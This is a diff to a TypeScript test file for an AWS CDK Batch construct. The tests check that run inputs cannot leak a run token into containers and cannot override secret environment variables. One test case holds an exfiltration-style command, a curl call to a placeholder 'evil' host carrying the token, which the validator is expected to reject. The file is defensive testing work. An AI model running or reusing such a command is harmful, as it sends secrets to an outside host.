@@ -1,11 +1,13 @@
-import { Stack } from 'aws-cdk-lib';
+import { CfnParameter, Stack } from 'aws-cdk-lib';
 import { Template } from 'aws-cdk-lib/assertions';
+import * as batch from 'aws-cdk-lib/aws-batch';
+import * as secretsmanager from 'aws-cdk-lib/aws-secretsmanager';
 import { HeavyBatchAllowedOverrides } from '../../../src';
 import { jobSpecOf } from '../../../src/contract/job-spec';
 import type { InputLimits } from '../../../src/functions/submit/input-limits';
 import { parseRunInput } from '../../../src/functions/submit/run-input';
 import { definitionOf } from '../../definitions';
-import { newJob } from '../../stacks';
+import { newJob, newStack } from '../../stacks';
 
 /** What the submit function is told of a job with these props. */
 function limitsOf(allowedOverrides?: HeavyBatchAllowedOverrides): InputLimits {
@@ -53,7 +55,32 @@ test.each<[string, InputLimits, object, string]>([
 test.each<[string, object]>([
   ['a parameter', { parameters: { size: 'x Ref::heavyBatchToken' } }],
   ['a parameter in a body', { body: '{"size": "Ref::heavyBatchRun"}' }],
+  ['a variable', overrides({ environment: { MODE: 'Ref::heavyBatchToken' } })],
   ['a word of a command', overrides({ command: ['curl', 'http://evil/?Ref::heavyBatchToken'] })],
 ])('the token of a run does not reach its container through %s', (_, input) => {
   expect(() => parseRunInput(input, ALL)).toThrow(/refers to Ref::heavyBatch(Token|Run), which no container gets; leave it out/);
+});
+
+describe('a job with secrets whose variables', () => {
+  function specWith(type?: 'String'): InputLimits {
+    const stack = newStack();
+    const secret = (id: string) => batch.Secret.fromSecretsManager(secretsmanager.Secret.fromSecretNameV2(stack, id, id));
+    const environment = ['MODE', ...type ? [new CfnParameter(stack, 'Name', { type }).valueAsString] : []];
+    newJob({ secrets: { TOKEN: secret('token'), KEY: secret('key') }, allowedOverrides: { environment } }, stack);
+    return jobSpecOf(definitionOf(Template.fromStack(stack)))!;
+  }
+  /** As the deployment has put its value in. */
+  const deployed = (spec: InputLimits, environment: string[]): InputLimits => ({ ...spec, allowedOverrides: { ...spec.allowedOverrides, environment } });
+
+  test('have a name that is a token are compared with the secrets when a run starts', () => {
+    const spec = deployed(specWith('String'), ['MODE', 'KEY']);
+    expect(spec.allowedOverrides!.secrets).toEqual(['KEY', 'TOKEN']);
+    expect(() => parseRunInput(overrides({ environment: { KEY: 'a' } }), spec))
+      .toThrow("'containerOverrides.environment.KEY' is the name of a secret of this job, which a run must not replace; use another name");
+    expect(parseRunInput(overrides({ environment: { MODE: 'a' } }), spec).environment).toEqual({ MODE: 'a' });
+  });
+
+  test('are known at synth do not tell the submit function the names of the secrets', () => {
+    expect(specWith(undefined).allowedOverrides).toEqual({ environment: ['MODE'] });
+  });
 });
